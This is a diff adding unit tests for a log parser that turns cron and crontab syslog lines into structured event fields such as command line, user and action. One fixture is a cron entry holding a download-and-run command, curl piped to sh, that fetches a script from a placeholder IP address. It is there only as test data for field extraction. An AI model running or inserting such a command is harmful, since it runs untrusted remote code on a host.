@@ -359,6 +359,54 @@ describe('su', () => {
   })
 })
 
+describe('cron', () => {
+  it('reads a job start as a command run as the crontab owner, without cron layout spaces', () => {
+    expect(describeLine('CRON', '(root) CMD (   cd / && run-parts --report /etc/cron.hourly)')).toEqual({
+      isAuthLine: false,
+      fields: {
+        'event.category': 'process',
+        'event.action': 'cron_command',
+        'user.name': 'root',
+        'process.command_line': 'cd / && run-parts --report /etc/cron.hourly'
+      },
+      extra: {}
+    })
+    expect(
+      describeLine('crond', '(backup2) CMD (curl -s http://203.0.113.50/x.sh | sh) (extra)').fields[
+        'process.command_line'
+      ]
+    ).toBe('curl -s http://203.0.113.50/x.sh | sh) (extra')
+    expect(describeLine('CROND', '(alice) CMD (/home/alice/bin/sync.sh)').fields['user.name']).toBe('alice')
+  })
+
+  it('reads crontab replacements and deletions, and leaves cron housekeeping alone', () => {
+    expect(describeLine('crontab', '(root) DELETE (bob)')).toEqual({
+      isAuthLine: false,
+      fields: {
+        'event.category': 'configuration',
+        'event.action': 'crontab_modified',
+        'event.outcome': 'success',
+        'user.name': 'root',
+        'user.target.name': 'bob'
+      },
+      extra: { 'system.cron.operation': 'DELETE' }
+    })
+    expect(describeLine('cron', '(CRON) INFO (pidfile fd = 3)').fields).toEqual({})
+    expect(describeLine('CRON', '(root) RELOAD (crontabs/root)').fields).toEqual({})
+    expect(describeLine('crontab', '(alice) BEGIN EDIT (alice)').fields).toEqual({})
+    expect(describeLine('CRON', 'pam_unix(cron:session): session opened for user root by (uid=0)')).toEqual({
+      isAuthLine: true,
+      fields: {
+        'event.category': 'session',
+        'event.action': 'session_opened',
+        'event.outcome': 'success',
+        'user.name': 'root'
+      },
+      extra: {}
+    })
+  })
+})
+
 describe('account changes', () => {
   it('reads useradd, groupadd, usermod, userdel and passwd lines as IAM events', () => {
     const cases: [string, string, EventFieldValues, ExtraFields][] = [
